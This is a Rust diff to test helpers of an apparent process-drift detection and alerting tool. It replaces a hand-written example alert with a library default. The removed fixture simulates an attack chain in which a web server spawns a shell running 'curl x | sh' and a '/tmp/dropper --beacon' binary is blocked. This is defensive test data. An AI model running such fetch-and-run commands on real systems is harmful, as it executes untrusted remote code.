@@ -16,7 +16,7 @@ use std::{
 };
 
 use driftwall_notify::{
-    ChainProcess, DriftEvent, DriftNotice, NotifyConfig, Outbox, OutboxError, Severity, Verdict,
+    DriftNotice, NotifyConfig, Outbox, OutboxError,
     signing::{SigningSecret, verify_signature},
 };
 use http_body_util::{BodyExt, Full};
@@ -26,42 +26,14 @@ use tokio::net::TcpListener;
 
 pub const SECRET: &str = "driftwall-test-secret-0123456789";
 
+/// The example notice, about `workload` and `rule`, from process `pid`.
 pub fn notice(workload: &str, rule: &str, pid: u32) -> DriftNotice {
-    DriftNotice {
-        event: DriftEvent {
-            time: "2026-11-22T20:00:00Z".into(),
-            host: "node-1".into(),
-            hook: "exec".into(),
-            verdict: Verdict::Deny,
-            pid,
-            uid: 33,
-            exe: "/tmp/dropper".into(),
-            argv: vec!["/tmp/dropper".into(), "--beacon".into()],
-        },
-        workload: workload.into(),
-        profile: Some(workload.into()),
-        rule: rule.into(),
-        severity: Severity::High,
-        bundle_hash: "sha256:0f0f".into(),
-        source_commit: Some("5f5ced6".into()),
-        flashback: vec![
-            ChainProcess {
-                pid: 100,
-                exe: "/usr/sbin/nginx".into(),
-                argv: vec!["nginx".into()],
-                uid: 33,
-                start_time: "2026-11-22T19:00:00Z".into(),
-            },
-            ChainProcess {
-                pid: 200,
-                exe: "/bin/sh".into(),
-                argv: vec!["sh".into(), "-c".into(), "curl x | sh".into()],
-                uid: 33,
-                start_time: "2026-11-22T19:59:59Z".into(),
-            },
-        ],
-        suppressed: 0,
-    }
+    let mut n = DriftNotice::example();
+    n.workload = workload.into();
+    n.profile = Some(workload.into());
+    n.rule = rule.into();
+    n.event.pid = pid;
+    n
 }
 
 /// Writes `secret` to a 0600 file and a notify.yaml with `targets` (YAML list items,
